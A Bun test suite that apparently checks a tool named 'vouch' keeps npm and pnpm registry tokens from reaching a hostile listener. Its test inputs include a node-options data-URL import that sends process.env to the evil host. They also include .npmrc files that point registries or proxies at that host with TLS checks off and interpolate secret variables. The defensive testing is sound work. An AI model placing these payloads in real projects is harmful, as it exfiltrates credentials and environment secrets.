/**
 * npm and pnpm of several years in projects whose data files want the token: nobody but the registry gets it, over TLS
 * that the user trusts. An honest project shows that the same npm does get it.
 */
import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { basename, dirname, join } from "node:path";
import { ended, type Finished, type Laptop } from "../../../laptop.ts";
import { requires } from "../../../requires.ts";
import { bare, endpoint, host, hostileFiles, lock, manifest, otherFiles, pnpmLock, variable } from "./files.ts";
import { hostileSettings, makeRepositories } from "./git.ts";
import { type HostileListener, holdsToken, startHostileListener } from "../listener.ts";
import { pathWith, programsOf, setUpNpm, startNpmLaptop } from "../../tools/javascript/npm-laptop.ts";
import { npmrcSpellings } from "./npmrc-spellings.ts";
import { npmUserProject } from "../../projects.ts";

const tools = join(import.meta.dir, "../../../../.tools");

let laptop: Laptop;
/** Ends TLS with its own authority. */
let evil: HostileListener;
/** The proxy of the network that the laptop is in: it sees what is not encrypted. */
let network: HostileListener;
let count = 0;

beforeAll(async () => {
  laptop = await startNpmLaptop();
  for (const name of ["evil", "network"]) mkdirSync(join(laptop.folder, name));
  evil = await startHostileListener({ folder: join(laptop.folder, "evil"), host });
  network = await startHostileListener({
    folder: join(laptop.folder, "network"),
    host,
    relay: laptop.sandbox.proxyUrl,
  });
});
afterAll(async () => {
  await evil?.stop();
  await network?.stop();
  await laptop?.stop();
});

afterEach(() => {
  const taken = [...evil.requests, ...network.requests].filter(holdsToken);
  evil.requests.length = network.requests.length = 0;
  expect(taken).toEqual([]);
});

type Files = Record<string, string | Uint8Array>;

/** A project with these files, and a command in it by the npm (or pnpm) of a folder in .tools. */
function run(tool: string, command: string[], files: Files, env: Record<string, string> = {}) {
  const folder = join(laptop.home, `${tool}-${count++}`);
  npmUserProject(folder, "my-lib");
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    const target = typeof text === "string" ? /^link to (.*)$/.exec(text)?.[1] : undefined;
    if (target !== undefined) symlinkSync(target, join(folder, name));
    // A path from the home folder, which the project's own is in.
    else
      writeFileSync(join(folder, name), typeof text === "string" ? text.replaceAll("PROJECT", basename(folder)) : text);
  }
  return laptop.run(command, {
    cwd: folder,
    env: {
      ...withTool(tool),
      HTTPS_PROXY: network.url,
      https_proxy: network.url,
      HTTP_PROXY: network.url,
      http_proxy: network.url,
      // The user trusts the sandbox by Node.js's own variable: npm's would beat a project's file in any case.
      npm_config_cafile: undefined,
      npm_config_fetch_retries: "0",
      pnpm_config_fetch_retries: "0",
      npm_config_audit: "false",
      ...env,
    },
  });
}

function withTool(tool: string): Record<string, string> {
  return { PATH: pathWith(laptop, tool) };
}

const spelling = () => ({ ca: evil.ca, proxy: evil.url, endpoint });

async function installs(tool: string, command: string[], files: Files = {}): Promise<void> {
  const finished = await run(tool, command, files);
  expect(finished.stderr + finished.stdout).not.toContain("vouch:");
  expect(finished.exitCode).toBe(0);
}

function expectWords({ stderr }: Finished, words: RegExp | null): void {
  if (words === null) expect(stderr).not.toContain("vouch:");
  else expect(stderr).toMatch(words);
}

describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("in a project %s", (tool) => {
  describe.skipIf(!requires(join(programsOf(tool), "npm")))("where it is installed,", () => {
    test("installs from the registry in an honest project", () => installs(tool, ["npm", "install"]));

    test("ignores what only pnpm reads", async () => {
      const x = `http://${endpoint}my-lib/-/my-lib-1.0.0.tgz`;
      await installs(tool, ["npm", "install"], { "pnpm-lock.yaml": pnpmLock(x), "pnpm-workspace.yaml": `a: ${x}\n` });
    });

    test.each(hostileFiles)(
      "gives nobody the token with %s",
      async (_, files, words) => {
        expectWords(await run(tool, ["npm", "install", "--ignore-scripts"], files(evil)), words);
      },
      120_000,
    );

    test.each(hostileSettings)(
      "gives nobody the token with a dependency in git and %s",
      async (_, npmrc, settings, words) => {
        const folder = join(laptop.home, `${tool}-git-${count}`);
        const g = makeRepositories(folder, { url: evil.url, settings });
        const files = { ".npmrc": `allow-git=all\n${npmrc}`, "package.json": manifest({ dependencies: { g } }) };
        for (const command of ["npm install --ignore-scripts", `npm pack ${g}`, "vouch exec -- npm install"]) {
          expectWords(await run(tool, command.split(" "), files), words);
        }
        if (words === null) expect(evil.requests.join("\n")).toContain("inner");
      },
      120_000,
    );

    test.each(["the project", "the clone"])(
      "loads no code that node-options of %s name into the npm of a dependency's clone",
      async (place) => {
        const code = `fetch("${evil.url}/"+encodeURIComponent(JSON.stringify(process.env)))`;
        const settings = `node-options=--import=data:text/javascript,${encodeURIComponent(code)}\n`;
        const folder = join(laptop.home, `${tool}-git-${count}`);
        const g = makeRepositories(folder, { url: evil.url, settings: place === "the clone" ? settings : "" });
        const files = {
          ".npmrc": `allow-git=all\n${place === "the project" ? settings : ""}`,
          "package.json": manifest({ dependencies: { g } }),
        };
        for (const command of ["npm install --ignore-scripts", `npm pack ${g}`, "vouch exec -- npm install"]) {
          await run(tool, command.split(" "), files);
        }
        expect(evil.requests.filter((request) => request.includes("VOUCH_"))).toEqual([]);
        expect(evil.requests.join("\n")).toContain("inner");
      },
      120_000,
    );

    test.each([
      "install my-lib -w b",
      "-w b install my-lib",
      "install my-lib --workspace=b",
      "install my-lib --workspace packages/b",
      "install my-lib --ws",
      "-w b publish --dry-run",
      "publish --workspaces --dry-run",
    ])(
      "works in a workspace by npm %s",
      async (command) => {
        const files = {
          "package.json": manifest({ workspaces: ["packages/*"] }),
          "packages/b/package.json": JSON.stringify({ name: "b", version: "1.0.0" }),
        };
        const finished = await run(tool, ["npm", ...command.split(" ")], files);
        expect(finished.stderr).not.toContain("vouch:");
        expect(finished.exitCode).toBe(0);
      },
      120_000,
    );

    test("gives nobody the token with plain http in a lock file", async () => {
      const files = { "package-lock.json": lock(`http://${endpoint}my-lib/-/my-lib-1.0.0.tgz`) };
      const finished = await run(tool, ["npm", "ci", "--ignore-scripts"], files);
      expectWords(finished, /package-lock\.json: packages\.node_modules\/my-lib\.resolved .*plain http/);
    });
  });
});

describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("in a hostile project", () => {
  const view = ["npm", "view", "@x/nothing"];

  test.each([
    ["npm view of a scope", view],
    ["npx of a scope", ["npx", "--yes", "@x/nothing"]],
    ["npm publish", ["npm", "publish", "--ignore-scripts"]],
    [
      "vouch exec, the real npm",
      ["vouch", "exec", "--", join(tools, "npm-11/node_modules/.bin/npm"), "view", "@x/nothing"],
    ],
    ["vouch exec, the shim", ["vouch", "exec", "--", ...view]],
  ])(
    "%s reveals no variable",
    async (_, command) => {
      const own = `@x:registry=${evil.url}/npm/\n`;
      for (const name of [variable, "CODEARTIFACT_AUTH_TOKEN", "TWINE_PASSWORD", "PIP_INDEX_URL", "VOUCH_SHIM_TRAIL"]) {
        const form = `${own}//${bare(evil.url)}/npm/:_authToken=\${${name}}\n`;
        const named = JSON.stringify({ name: "@x/mine", version: "1.0.0" });
        await run("npm-11", command, { ".npmrc": form, "package.json": named });
      }
      expect(evil.requests.length).toBeGreaterThan(0);
    },
    120_000,
  );

  test.each(otherFiles)(
    "nobody gets the token with %s",
    async (_, files, command, words) => {
      // What an earlier test has fetched would do without a token.
      const env = { npm_config_cache: join(laptop.home, `cache-${count}`) };
      const finished = await run("npm-11", ["npm", ...command, "--ignore-scripts"], files(evil), env);
      expectWords(finished, words);
      expect(finished.exitCode).not.toBe(0);
    },
    120_000,
  );

  test.each(npmrcSpellings)(
    "nobody gets the token with an .npmrc with %s",
    async (_, npmrc) => {
      const { stdout, stderr } = await run("npm-11", ["npm", "install", "--ignore-scripts"], {
        ".npmrc": npmrc(spelling()),
      });
      expect(stdout + stderr).not.toBe("");
    },
    120_000,
  );

  test("vouch exec refuses in clear words", async () => {
    const finished = await run("npm-11", ["vouch", "exec", "--", "npx", "my-lib"], { ".npmrc": "ca=x\n" });
    expectWords(finished, /npm gets no token here: .*\.npmrc: ca /);
    expect(finished.exitCode).toBe(5);
  });

  test("an honest publish works", async () => {
    const files = { "package.json": manifest({ name: "honest", publishConfig: { access: "public", tag: "latest" } }) };
    await ended(run("npm-11", ["npm", "publish"], files));
  });
});

describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("in a project %s", (tool) => {
  describe.skipIf(!requires(join(programsOf(tool), "pnpm")))("where it is installed,", () => {
    beforeAll(() => setUpNpm(laptop, withTool(tool)));

    test("installs from the registry in an honest project", () => installs(tool, ["pnpm", "install"]));

    test("ignores what only npm and yarn read, and reads its own lock file", async () => {
      const x = `http://${endpoint}my-lib/-/my-lib-1.0.0.tgz`;
      const files = { "package-lock.json": lock(x), "yarn.lock": `my-lib@^1.0.0:\n  resolved "${x}"\n` };
      await installs(tool, ["pnpm", "install"], files);
      for (const name of ["pnpm-lock.yaml", "node_modules/.pnpm/lock.yaml"]) {
        const other = join(dirname(name), `${tool}.txt`);
        const linked = { [name]: `link to ${tool}.txt`, [other]: pnpmLock(x) };
        for (const hostile of [{ [name]: pnpmLock(x) }, linked]) {
          const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], hostile);
          expect(finished.stderr).toMatch(/lock\.yaml: packages\..* leads to the registry by plain http/);
        }
      }
    });

    test.each<[string, (x: string) => Files]>([
      [
        "a package.json5 with an escape",
        (x) => ({ "package.json5": `{name:'w',dependencies:{x:'\\x68${x.slice(1)}',},}` }),
      ],
      [
        "a lock file in a folder that pnpm-workspace.yaml names",
        (x) => ({ "pnpm-workspace.yaml": "packages: []\nlockfileDir: lk\n", "lk/pnpm-lock.yaml": pnpmLock(x) }),
      ],
      [
        "a lock file in a folder that .npmrc names",
        (x) => ({ ".npmrc": "lockfile-dir=lk\n", "lk/pnpm-lock.yaml": pnpmLock(x) }),
      ],
      [
        "a fallback in a key of .npmrc",
        () => ({ ".npmrc": `\${NO-https-proxy}=${evil.url}/\n\${NO-strict-ssl}=false\n` }),
      ],
      [
        "a fallback in a key of pnpm-workspace.yaml",
        () => ({ "pnpm-workspace.yaml": `\${NO-httpsProxy}: ${evil.url}/\n\${NO-strictSsl}: false\n` }),
      ],
      ["a fallback in the scheme of a registry", () => ({ ".npmrc": `registry=\${NO-http}://${endpoint}\n` })],
      [
        "a member by a pattern with braces",
        (x) => ({
          "pnpm-workspace.yaml": 'packages:\n  - "d{1,2}/{.h,z}"\n',
          "d1/.h/package.json": JSON.stringify({ name: "h", dependencies: { x } }),
        }),
      ],
    ])(
      "gives nobody the token with %s",
      async (_, files) => {
        const hostile = files(`http://${endpoint}my-lib/-/my-lib-1.0.0.tgz`);
        const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], hostile);
        expect(finished.stderr).toMatch(/pnpm gets no token here: .* (leads to the registry by plain http|decides)/);
      },
      120_000,
    );

    test.each(hostileFiles)(
      "gives nobody the token with %s",
      async (_, files, words) => {
        const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files(evil));
        if (words !== null) expect(finished.stderr).toMatch(/pnpm gets no token here: .*(npmrc|package\.json): /);
      },
      120_000,
    );

    test.each(hostileSettings)(
      "gives nobody the token with a dependency in git and %s",
      async (_, npmrc, settings, words) => {
        const g = makeRepositories(join(laptop.home, `${tool}-git-${count}`), { url: evil.url, settings });
        const files = { ".npmrc": npmrc, "package.json": manifest({ dependencies: { g } }) };
        for (const command of ["pnpm install --ignore-scripts", "vouch exec -- pnpm install"]) {
          expectWords(await run(tool, command.split(" "), files), words);
        }
      },
      120_000,
    );

    if (tool === "pnpm-9" || tool === "pnpm-12") {
      test.each(npmrcSpellings)(
        "gives nobody the token with an .npmrc with %s",
        async (_, npmrc) => {
          const { stdout, stderr } = await run(tool, ["pnpm", "install", "--ignore-scripts"], {
            ".npmrc": npmrc(spelling()),
          });
          expect(stdout + stderr).not.toBe("");
        },
        120_000,
      );
    }

    test.each([
      ["pnpm dlx", ["pnpm", "dlx", "@x/nothing"]],
      ["pnpm view", ["pnpm", "view", "@x/nothing"]],
    ])(
      "gives nobody the token by %s",
      async (_, command) => {
        const own = `@x:registry=${evil.url}/npm/\n`;
        const known = [variable, `p${variable}`, "CODEARTIFACT_AUTH_TOKEN"];
        const texts = known.map((name) => `${own}//${bare(evil.url)}/npm/:_authToken=\${${name}}\n`);
        for (const text of [...texts, `${own}https-proxy=${evil.url}\nstrict-ssl=false\n`]) {
          const { exitCode } = await run(tool, command, { ".npmrc": text });
          expect(exitCode).not.toBe(0);
        }
      },
      120_000,
    );

    test("gives nobody the token by pnpm's own variable", async () => {
      const files = { ".npmrc": `registry=${evil.url}/\n//${bare(evil.url)}/:_authToken=\${p${variable}}\n` };
      const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files);
      expect(finished.stderr).toContain("names the variable of a token");
    });

    test("gives nobody the token by a proxy in pnpm-workspace.yaml", async () => {
      const files = { "pnpm-workspace.yaml": `packages: []\nhttpsProxy: ${evil.url}\nstrictSsl: false\n` };
      const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files);
      expect(finished.stderr).toMatch(/pnpm-workspace\.yaml: (httpsProxy|strictSsl) /);
    });
  });
});
